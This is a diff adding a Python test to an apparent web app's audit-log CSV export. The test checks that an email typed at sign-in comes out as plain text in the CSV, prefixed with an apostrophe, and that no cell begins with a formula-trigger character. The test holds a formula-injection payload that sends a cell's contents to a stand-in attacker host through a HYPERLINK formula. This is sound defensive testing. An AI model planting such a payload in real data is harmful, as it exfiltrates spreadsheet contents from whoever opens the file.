@@ -223,6 +223,23 @@ def test_the_csv_has_a_header_and_the_filtered_rows(
     assert 'href="/audit.csv?tenant=owls"' in superadmin_client.get("/audit", params={"tenant": "owls"}).text
 
 
+FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_a_formula_typed_at_the_sign_in_form_is_plain_text_in_the_csv(
+    client: TestClient[Any], settings: Settings, superadmin: Credentials
+) -> None:
+    assert sign_in(client, Credentials(FORMULA_EMAIL, "wrong")).status_code == 422
+    signed_in_as(client, superadmin)
+
+    table = list(csv.reader(io.StringIO(client.get("/audit.csv").text)))
+
+    failed = next(row for row in table if row[5] == "sign_in_failed")
+    assert failed[2] == "'" + FORMULA_EMAIL
+    cells = [cell for row in table for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 def test_a_landlord_admin_reads_the_trail(client: TestClient[Any], settings: Settings) -> None:
     admin = add_user(settings, "lee@landlord.example", PlatformRole.LANDLORD_ADMIN)
     signed_in_as(client, admin)
